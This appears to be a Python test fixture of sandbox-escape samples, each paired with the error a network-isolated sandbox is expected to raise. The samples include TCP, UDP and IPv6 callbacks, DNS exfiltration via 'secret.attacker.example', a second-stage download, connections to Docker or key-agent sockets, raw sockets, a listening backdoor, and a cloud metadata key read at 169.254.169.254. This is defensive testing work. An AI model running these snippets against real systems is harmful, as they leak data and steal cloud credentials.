"""Out of the wall by a line of its own."""

from __future__ import annotations

from tests.skills.attacks.sample import Sample

NO_NET = "the wall: a network of its own with nothing in it"

SAMPLES = (
    Sample(
        "calls_home_by_tcp", "connects to a server", NO_NET,
        """
        for host in ('127.0.0.1', '192.0.2.1', 'localhost'):
            tell(lambda: socket.create_connection((host, int(a['tcp'])), 2).sendall(b'GOT IT'))
        """,
        heard=("Connection refused", "unreachable"), reaches=True,
    ),
    Sample(
        "calls_home_by_udp", "sends datagrams", NO_NET,
        """
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        tell(line.sendto, b'GOT IT', ('127.0.0.1', int(a['udp'])))
        tell(line.sendto, b'GOT IT', ('192.0.2.1', 53))
        """,
        heard=("unreachable",), reaches=True,
    ),
    Sample(
        "hides_in_dns", "puts what it found into names that it looks up", NO_NET,
        "tell(socket.getaddrinfo, 'secret.attacker.example', 443)",
        heard=("gaierror",),
    ),
    Sample(
        "downloads_more", "fetches its second part with urllib", NO_NET,
        "import urllib.request\n"
        "tell(lambda: urllib.request.urlopen(f\"http://127.0.0.1:{a['tcp']}/\", timeout=2).read())",
        heard=("Connection refused",), reaches=True,
    ),
    Sample(
        "speaks_to_our_socket", "connects to a Unix socket of ours (Docker, an agent of keys)",
        "the wall: no such file",
        "line = socket.socket(socket.AF_UNIX)\n"
        "tell(lambda: [line.connect(a['unix']), line.sendall(b'GOT IT')])",
        heard=("FileNotFoundError",), reaches=True,
    ),
    Sample(
        "speaks_to_an_abstract_socket", "connects to an abstract Unix socket (D-Bus, X11)", NO_NET,
        "line = socket.socket(socket.AF_UNIX)\n"
        "tell(lambda: [line.connect('\\0' + a['abstract']), line.sendall(b'GOT IT')])",
        heard=("ConnectionRefusedError",), reaches=True,
    ),
    Sample(
        "uses_ipv6", "connects by IPv6, mapped and link-local", NO_NET,
        """
        for host in ('::1', '::ffff:127.0.0.1', '::ffff:192.0.2.1', 'fe80::1', '2001:db8::1'):
            tell(lambda: socket.create_connection((host, int(a['tcp'])), 2).sendall(b'GOT IT'))
        """,
        heard=("unreachable",), reaches=True,
    ),
    Sample(
        "makes_packets", "opens raw and packet sockets, and sets up a network",
        "no rights within the wall",
        """
        for family, kind, protocol in ((2, 3, 1), (17, 3, 768), (16, 3, 0), (40, 1, 0)):
            tell(lambda: socket.socket(family, kind, protocol).connect(('127.0.0.1', 1)))
        tell(lambda: subprocess.run(['ip', 'link', 'add', 'x', 'type', 'veth'], check=True))
        tell(lambda: sorted(name for _, name in socket.if_nameindex()))
        """,
        heard=("Operation not permitted", "['lo']"),
    ),
    Sample(
        "waits_to_be_called", "listens, to be reached from outside", NO_NET,
        """
        door = socket.create_server(('0.0.0.0', int(a['free'])))
        context.ask('try it')
        door.settimeout(1)
        tell(door.accept)
        """,
        heard=("TimeoutError", "try it"),
    ),
    Sample(
        "asks_the_cloud", "reads the cloud machine's keys at 169.254.169.254", NO_NET,
        "tell(lambda: socket.create_connection(('169.254.169.254', 80), 2).recv(9))",
        heard=("unreachable",),
    ),
)  # fmt: skip
